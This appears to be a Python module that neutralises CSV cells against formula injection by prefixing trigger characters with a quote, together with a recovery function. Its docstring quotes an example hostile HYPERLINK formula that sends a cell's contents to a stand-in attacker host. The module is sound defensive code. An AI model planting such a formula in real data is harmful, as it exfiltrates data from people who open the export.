"""CSV cells a spreadsheet reads as text, never as a formula (CSV injection).

Excel, LibreOffice and Google Sheets evaluate a CSV cell that begins with `=`, `+`, `-` or
`@` as a formula, and one that begins with a tab or a carriage return may become one once
trimmed; quoting the cell does not stop them. So a value like
`=HYPERLINK("http://evil.example/?d="&A2,"click")`, typed into a resident's record or sent
as a `Purpose` header, would run in whoever opens the export. Following OWASP's guidance on
CSV injection, every cell the vault writes to a CSV goes through `neutralise_cell`, which
prefixes such a cell with a single quote (spreadsheets show it as text).

The rule is unambiguous, so the exact value is always recoverable: a cell that already
begins with a quote is prefixed too. `recover_cell` strips one leading quote, if there is
one, and gives the value back. JSON and NDJSON are data, not sheets: they stay raw.

The ground floor of the layering (no imports of ours), so every writer can use it.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Final

__all__ = ["ESCAPE", "FORMULA_TRIGGERS", "csv_row", "neutralise_cell", "recover_cell"]

# OWASP's list: the characters that start a formula, and tab/CR, which a trim removes.
FORMULA_TRIGGERS: Final = frozenset("=+-@\t\r")
ESCAPE: Final = "'"


def neutralise_cell(text: str) -> str:
    """The cell as written to a CSV: prefixed with `'` when it begins with a formula
    trigger, or with `'` itself (so recovery is "strip one leading `'`")."""
    if text[:1] in FORMULA_TRIGGERS or text.startswith(ESCAPE):
        return ESCAPE + text
    return text


def recover_cell(text: str) -> str:
    """The exact value a neutralised cell holds (one leading `'` removed, if any). A cell a
    spreadsheet re-saved without its quote comes back as the value it shows (ambiguous
    only for a value that itself began with `'`)."""
    return text[1:] if text.startswith(ESCAPE) else text


def csv_row(cells: Iterable[str]) -> list[str]:
    """A row for `csv.writer(...).writerow`, every cell neutralised."""
    return [neutralise_cell(cell) for cell in cells]
